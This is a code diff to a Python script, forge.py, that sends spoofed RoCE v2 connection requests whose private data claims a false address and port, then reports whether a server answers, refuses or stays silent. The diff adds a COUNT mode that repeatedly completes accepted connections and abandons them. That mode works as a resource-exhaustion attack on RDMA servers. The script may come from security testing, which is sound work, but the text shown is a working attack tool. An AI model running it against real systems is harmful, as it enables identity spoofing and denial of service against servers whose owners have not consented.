@@ -1,6 +1,7 @@
-"""forge.py MINE SERVER PORT CLAIMED_ADDRESS CLAIMED_PORT: asks a RoCE v2 server for a connection, as any user can who
-may send a datagram: the packets come from MINE, and the private data of the request says CLAIMED. Prints "answered" when
-the server accepts, "refused" when it rejects, "silent" when it says nothing for some seconds."""
+"""forge.py MINE SERVER PORT CLAIMED_ADDRESS CLAIMED_PORT [COUNT]: asks a RoCE v2 server for a connection, as any user can
+who may send a datagram: the packets come from MINE, and the private data of the request says CLAIMED. Prints "answered" when
+the server accepts, "refused" when it rejects, "silent" when it says nothing for some seconds. With COUNT it asks so often,
+establishes what is accepted, and is never heard of again: "answered 3 refused 4 silent 0"."""
 import os
 import socket
 import struct
@@ -8,7 +9,7 @@ import sys
 import zlib
 
 ROCE_PORT = 4791
-CM_REQ, CM_MRA, CM_REJ, CM_REP = 0x10, 0x11, 0x12, 0x13
+CM_REQ, CM_MRA, CM_REJ, CM_REP, CM_RTU = 0x10, 0x11, 0x12, 0x13, 0x14
 UD_SEND_ONLY, GSI_QP, GSI_QKEY = 0x64, 1, 0x80010000
 IB_CM_PORT_SPACE_TCP = 0x01060000
 
@@ -59,19 +60,36 @@ def request(identifier):
     return management(CM_REQ, body + private)
 
 
-identifier = int.from_bytes(os.urandom(4), "big") >> 1
-for attempt in range(4):
-    sock.sendto(packet(request(identifier)), (server, ROCE_PORT))
-    sock.settimeout(2)
-    try:
-        while True:
-            got = sock.recv(4096)
-            if len(got) < 52 or got[0] != UD_SEND_ONLY:
-                continue
-            attribute = struct.unpack("!H", got[36:38])[0]
-            if got[48:52] == struct.pack("!I", identifier) and attribute in (CM_REP, CM_REJ):
-                print("answered" if attribute == CM_REP else "refused")
-                sys.exit()
-    except socket.timeout:
-        pass
-print("silent")
+def ask():
+    """Asks once, and again where nothing is heard."""
+    identifier = int.from_bytes(os.urandom(4), "big") >> 1
+    for attempt in range(4):
+        sock.sendto(packet(request(identifier)), (server, ROCE_PORT))
+        sock.settimeout(2)
+        try:
+            while True:
+                got = sock.recv(4096)
+                if len(got) < 52 or got[0] != UD_SEND_ONLY:
+                    continue
+                attribute = struct.unpack("!H", got[36:38])[0]
+                if got[48:52] != struct.pack("!I", identifier):
+                    continue
+                if attribute == CM_REP:
+                    ready = management(CM_RTU, struct.pack("!I", identifier) + got[44:48])
+                    if counts:
+                        sock.sendto(packet(ready), (server, ROCE_PORT))
+                    return "answered"
+                if attribute == CM_REJ:
+                    return "refused"
+        except socket.timeout:
+            pass
+    return "silent"
+
+
+counts = {"answered": 0, "refused": 0, "silent": 0} if len(sys.argv) > 6 else None
+if counts is None:
+    print(ask())
+else:
+    for _ in range(int(sys.argv[6])):
+        counts[ask()] += 1
+    print(" ".join(f"{outcome} {count}" for outcome, count in counts.items()))
